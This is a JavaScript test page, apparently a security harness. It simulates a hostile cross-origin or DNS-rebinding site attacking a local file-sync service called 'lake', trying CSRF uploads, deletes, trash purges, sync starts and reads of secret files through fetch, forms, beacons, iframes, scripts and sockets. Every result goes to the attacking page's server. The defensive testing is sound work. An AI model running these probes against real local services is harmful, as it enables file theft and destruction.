// What a page of somebody else's tries on a lake. LAKE is its address ('' in a page of the lake's
// own origin, as after DNS rebinding). Each attempt is told to the page's own server.
const told = [];
const MOST_MS = 1000; // a frame that turns into a download says nothing ever

async function attempt(what, run) {
  let got = "";
  try {
    got = await Promise.race([run(), new Promise((done) => setTimeout(done, MOST_MS, ""))]);
  } catch (error) {
    got = "";
  }
  told.push({ what, got: String(got ?? "").slice(0, 100000) });
}

const withText = async (answer) => (await answer).text();
const form = (name, text) => {
  const body = new FormData();
  body.append("file", new File([text], name));
  return body;
};
const post = (path, body, mode) =>
  withText(fetch(LAKE + path, { method: "POST", body, mode, credentials: "include" }));
// A body that is JSON for whoever does not ask what it calls itself.
const plain = (fields) => new Blob([JSON.stringify(fields)], { type: "text/plain" });
const UPLOAD = "/api/lake/file/upload?sync_id=1&path=/h";
const READ = [
  "/api/ingestion/file/sync/list",
  "/api/ingestion/file/sync/history",
  "/api/lake/syncs",
  "/api/lake/history",
  "/api/lake/entries?path=/h",
  "/api/lake/entry?path=/h/secret.txt",
  "/api/lake/download?path=/h/secret.txt",
  "/api/lake/zip?path=/h",
  "/api/lake/trash",
  "/api/lake/capabilities",
  "/api/lake/usage?path=/h",
  "/api/lake/manifest?sync_id=1",
  "/metrics",
  "/openapi.json",
];

function element(tag, attributes) {
  return new Promise((done) => {
    const made = document.createElement(tag);
    made.onload = () => done("loaded");
    made.onerror = () => done("");
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
  });
}

function frame(attributes) {
  return new Promise((done) => {
    const made = document.createElement("iframe");
    made.onload = () => {
      let text = "";
      try {
        text = made.contentDocument.body.innerText;
      } catch (error) {
        text = "";
      }
      done(text);
    };
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
  });
}

let frames = 0;
function submit(path, enctype, fields) {
  const name = "frame" + frames++;
  const made = document.createElement("iframe");
  made.name = name;
  document.body.append(made);
  const sent = document.createElement("form");
  Object.assign(sent, { method: "POST", action: LAKE + path, enctype, target: name });
  for (const [key, value] of fields) {
    const input = document.createElement("input");
    input.name = key;
    if (value instanceof File) {
      input.type = "file";
      const files = new DataTransfer();
      files.items.add(value);
      input.files = files.files;
    } else {
      input.value = value;
    }
    sent.append(input);
  }
  document.body.append(sent);
  return new Promise((done) => {
    made.onload = () => done("");
    sent.submit();
  });
}
// `{"path":"/h/x","a":"=` and `"}`: what a form of plain text makes of a name and a value.
const asText = (fields) => [[JSON.stringify(fields).slice(0, -1) + ',"a":"', '"}']];

function socket() {
  return new Promise((done) => {
    const address = (LAKE || location.origin).replace("http", "ws") + "/api/lake/syncs";
    const made = new WebSocket(address);
    made.onopen = () => done("opened");
    made.onmessage = (event) => done(event.data);
    made.onerror = () => done("");
  });
}

function events() {
  return new Promise((done) => {
    const made = new EventSource(LAKE + "/api/lake/syncs");
    made.onopen = () => done("opened");
    made.onerror = () => {
      made.close();
      done("");
    };
  });
}

async function all() {
  await attempt("upload by fetch, no-cors", () => post(UPLOAD, form("by-no-cors", "x"), "no-cors"));
  await attempt("upload by fetch, cors", () => post(UPLOAD, form("by-cors", "x"), "cors"));
  await attempt("batch by fetch", () =>
    post("/api/lake/file/batch?sync_id=1", form("by-batch", "x"), "no-cors"));
  await attempt("upload by a form", () =>
    submit(UPLOAD, "multipart/form-data", [["file", new File(["x"], "by-form")]]));
  await attempt("upload by a beacon", () => navigator.sendBeacon(LAKE + UPLOAD, form("by-beacon", "x")));
  await attempt("delete by fetch", () =>
    post("/api/lake/delete", plain({ path: "/h/delete-by-fetch" }), "no-cors"));
  await attempt("delete by a form", () =>
    submit("/api/lake/delete", "text/plain", asText({ path: "/h/delete-by-form" })));
  await attempt("delete by a beacon", () =>
    navigator.sendBeacon(LAKE + "/api/lake/delete", plain({ path: "/h/delete-by-beacon" })));
  await attempt("rename by a form", () =>
    submit("/api/lake/rename", "text/plain", asText({ path: "/h/rename", to: "/h/renamed-by-form" })));
  await attempt("new folder by a form", () =>
    submit("/api/lake/folder", "text/plain", asText({ path: "/h/folder-by-form" })));
  await attempt("purge by fetch", () =>
    post("/api/lake/trash/purge", plain({ older_than_days: 0 }), "no-cors"));
  await attempt("restore by fetch", () =>
    post("/api/lake/trash/restore", plain({ sync_id: 0, version: VERSION }), "no-cors"));
  for (const key of ["", "guessed"]) {
    const named = key ? { sync_id: 1, api_key: key } : { sync_id: 1 };
    await attempt("abort by a form", () =>
      submit("/api/lake/sync/abort", "text/plain", asText(named)));
    await attempt("end by fetch", () =>
      post("/api/ingestion/file/sync/end", plain(named), "no-cors"));
  }
  await attempt("start by fetch", () =>
    post("/api/ingestion/file/sync/start",
      plain({ name: "evil", path: "/evil", sync_type: "FullSync", api_key: "" }), "no-cors"));
  await attempt("JSON by fetch", () =>
    withText(fetch(LAKE + "/api/lake/folder", {
      method: "POST", headers: { "Content-Type": "application/json" }, body: '{"path":"/h/by-json"}',
    })));
  await attempt("tus by fetch", () =>
    withText(fetch(LAKE + "/api/lake/tus?sync_id=1", {
      method: "POST",
      headers: { "Tus-Resumable": "1.0.0", "Upload-Length": "0", "Upload-Metadata": "filename YnktdHVz" },
    })));
  await attempt("DELETE by fetch", () =>
    withText(fetch(LAKE + "/api/lake/tus/" + "0".repeat(32), { method: "DELETE" })));
  for (const path of READ) {
    await attempt("read by fetch " + path, () => withText(fetch(LAKE + path)));
    await attempt("read by fetch, no-cors " + path, () => withText(fetch(LAKE + path, { mode: "no-cors" })));
    await attempt("read by a frame " + path, () => frame({ src: LAKE + path }));
    await attempt("read by a script " + path, () => element("script", { src: LAKE + path }));
  }
  await attempt("read by XMLHttpRequest", () => new Promise((done) => {
    const made = new XMLHttpRequest();
    made.onload = () => done(made.responseText);
    made.onerror = () => done("");
    made.open("GET", LAKE + "/api/lake/download?path=/h/secret.txt");
    made.send();
  }));
  await attempt("script", async () => {
    await element("script", { src: LAKE + "/api/lake/download?path=/h/script.js" });
    return window.stolen ?? "";
  });
  await attempt("style", () =>
    element("link", { rel: "stylesheet", href: LAKE + "/api/lake/download?path=/h/secret.txt" }));
  await attempt("image", () => element("img", { src: LAKE + "/api/lake/download?path=/h/image.png" }));
  await attempt("WebSocket", socket);
  await attempt("EventSource", events);
  await fetch("SITE/told", { method: "POST", mode: "no-cors", body: JSON.stringify(told) });
}
